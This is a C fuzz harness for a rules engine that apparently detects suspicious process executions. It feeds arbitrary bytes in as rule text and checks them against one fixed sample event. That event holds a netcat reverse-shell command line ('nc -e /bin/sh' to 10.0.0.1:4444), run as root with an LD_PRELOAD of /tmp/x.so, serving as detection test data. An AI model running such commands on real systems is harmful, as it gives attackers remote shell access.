/*
 * fuzz_rules: any bytes as a text of rules; what was loaded is asked about an execution.
 */
#include "rules/rules.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

#define TEXT(s)                                                                                    \
	{                                                                                          \
		s, sizeof(s) - 1                                                                   \
	}

static const struct lw_rule_text ancestors[] = {TEXT("/bin/sh"), TEXT("/usr/sbin/cupsd")};
static const struct lw_rule_pair environment[] = {{TEXT("LD_PRELOAD"), TEXT("/tmp/x.so")}};

static const struct lw_rule_event event = {
	.text[LW_RULE_IMAGE] = TEXT("/usr/bin/nc"),
	.text[LW_RULE_COMMAND_LINE] = TEXT("nc -e /bin/sh 10.0.0.1 4444"),
	.text[LW_RULE_STDIN_PEER] = TEXT("10.0.0.1:4444"),
	.text[LW_RULE_LAYER] = TEXT("added"),
	.text[LW_RULE_USER] = TEXT(""),
	.number[LW_RULE_UID] = 0,
	.numbers = UINT64_C(1) << LW_RULE_UID,
	.ancestors = ancestors,
	.ancestor_count = 2,
	.environment = environment,
	.environment_count = 1,
};

int
LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	struct lw_rules_source sources[] = {
		{.name = "lists.yaml",
			.text = "a: [x, y]\nb: ['1*']\n",
			.length = 20,
			.lists = true},
		{.name = "fuzz.yml", .text = (const char *)data, .length = size},
		{.name = "fuzz.lists.yaml",
			.text = (const char *)data,
			.length = size,
			.lists = true},
	};
	_cleanup_(lw_rules_freep) struct lw_rules *set = NULL;
	struct lw_rule_matches matches;

	if (lw_rules_load(sources, LW_ARRAY_SIZE(sources), &set) < 0)
		return 0;
	lw_rules_evaluate(set, &event, &matches);
	for (size_t i = 0; i < lw_rules_count(set); i++) {
		bool held;

		lw_rules_test(set, i, &event);
		for (size_t n = 0; lw_rules_selection(set, i, n, &held); n++)
			;
	}
	return 0;
}
